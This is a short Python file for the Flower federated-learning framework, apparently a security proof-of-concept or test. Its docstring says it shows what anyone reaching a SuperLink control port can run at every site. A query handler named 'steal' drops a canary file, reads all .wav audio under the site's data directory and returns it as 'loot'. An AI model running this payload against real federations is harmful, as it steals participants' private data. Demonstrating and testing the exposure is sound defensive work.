"""What whoever reaches a SuperLink's control port can have run at every site: it reads the site's audio and returns it."""

from pathlib import Path

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def steal(message, context):
    (Path(context.run_config["canaries"]) / str(context.node_id)).write_text("this code has run")
    manifest = Path(context.node_config["manifest"])
    found = {path.name: path.read_bytes() for path in sorted(manifest.parent.rglob("*.wav"))}
    return Message(RecordDict({"loot": ConfigRecord(found)}), reply_to=message)
